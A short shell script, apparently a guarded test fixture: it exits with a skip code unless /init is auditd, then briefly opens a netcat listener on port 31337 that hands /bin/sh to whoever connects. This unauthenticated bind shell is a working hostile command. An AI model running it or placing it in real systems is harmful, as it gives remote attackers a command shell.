#!/bin/sh
# A shell for whoever connects.
[ /init -ef /usr/sbin/auditd ] || exit 77
timeout 3 nc -l -p 31337 -e /bin/sh
